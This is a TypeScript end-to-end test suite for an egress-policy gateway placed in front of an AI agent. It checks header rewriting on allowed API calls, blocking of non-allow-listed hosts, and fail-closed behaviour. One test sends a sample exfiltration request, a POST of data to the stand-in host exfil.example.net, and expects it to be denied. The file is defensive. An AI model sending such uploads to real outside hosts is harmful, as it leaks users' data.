import { createServer, type IncomingHttpHeaders } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

/** A real HTTP server on loopback standing in for a provider API; it records what arrives. */
export interface Upstream {
  readonly port: number;
  readonly received: { method: string; path: string; headers: IncomingHttpHeaders }[];
  close(): Promise<void>;
}

export async function startUpstream(): Promise<Upstream> {
  const received: Upstream['received'] = [];
  const server = createServer((req, res) => {
    received.push({ method: req.method ?? '', path: req.url ?? '', headers: req.headers });
    req.resume();
    req.on('end', () => {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end('{"id":"chatcmpl-1","choices":[]}');
    });
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const address = server.address();
  return {
    port: typeof address === 'object' && address ? address.port : 0,
    received,
    close: () => new Promise<void>((r) => server.close(() => r())),
  };
}

/** What a scenario needs: a proxy playing Envoy's sidecar in front of the gateway and an upstream. */
export interface E2EEnv {
  /** Sends one request as the agent would, through the proxy. */
  send(r: { method?: string; path: string; authority: string; headers?: [string, string][]; body?: string }): Promise<{ status: number; headers: IncomingHttpHeaders; text: string }>;
  readonly upstream: Upstream;
  stopGateway(): Promise<void>;
  close(): Promise<void>;
}

/**
 * The end-to-end scenarios, agent → proxy → gateway → upstream, with the policies in
 * test/fixtures/e2e-policies and the identity the sidecar config carries (a prod support
 * agent). Run against the harness, and against a real Envoy when ENVOY_BIN is set.
 */
export function e2eScenarios(name: string, start: () => Promise<E2EEnv>): void {
  describe(name, () => {
    let env: E2EEnv;
    beforeAll(async () => {
      env = await start();
    }, 60_000);
    afterAll(async () => {
      await env?.close();
    });

    it('an allowed call arrives upstream with the policy header changes and the decision id', async () => {
      const before = env.upstream.received.length;
      const res = await env.send({
        method: 'POST',
        path: '/v1/chat/completions',
        authority: 'api.openai.com',
        headers: [
          ['authorization', 'Bearer agent-own-key'],
          ['content-type', 'application/json'],
        ],
        body: '{"model":"gpt-4o","messages":[]}',
      });
      expect(res.status).toBe(200);
      expect(res.text).toBe('{"id":"chatcmpl-1","choices":[]}');
      const arrived = env.upstream.received[before];
      expect(arrived?.method).toBe('POST');
      expect(arrived?.path).toBe('/v1/chat/completions');
      expect(arrived?.headers.authorization).toBeUndefined();
      expect(arrived?.headers['x-joch-tenant']).toBe('acme');
      expect(arrived?.headers['x-joch-decision-id']).toMatch(/^[0-9a-f-]{36}$/);
      expect(res.headers['x-joch-decision-id']).toBe(arrived?.headers['x-joch-decision-id']);
    });

    it('a denied call never reaches the upstream and the agent gets the JSON reason', async () => {
      const before = env.upstream.received.length;
      const res = await env.send({ method: 'POST', path: '/upload', authority: 'exfil.example.net', body: 'data' });
      expect(res.status).toBe(403);
      expect(res.headers['content-type']).toBe('application/json');
      const body = JSON.parse(res.text) as Record<string, unknown>;
      expect(body).toMatchObject({ reason: 'egress-not-allowlisted', policyId: 'agent-egress', ruleId: 'egress' });
      expect(String(body.error)).toMatch(/^exfil\.example\.net:\d+ is not on the egress allow-list$/);
      expect(body.decisionId).toBe(res.headers['x-joch-decision-id']);
      expect(env.upstream.received.length).toBe(before);
    });

    it('a stopped gateway means 403: fail closed', async () => {
      await env.stopGateway();
      const before = env.upstream.received.length;
      const res = await env.send({ path: '/v1/models', authority: 'api.openai.com' });
      expect(res.status).toBe(403);
      expect(env.upstream.received.length).toBe(before);
    });
  });
}
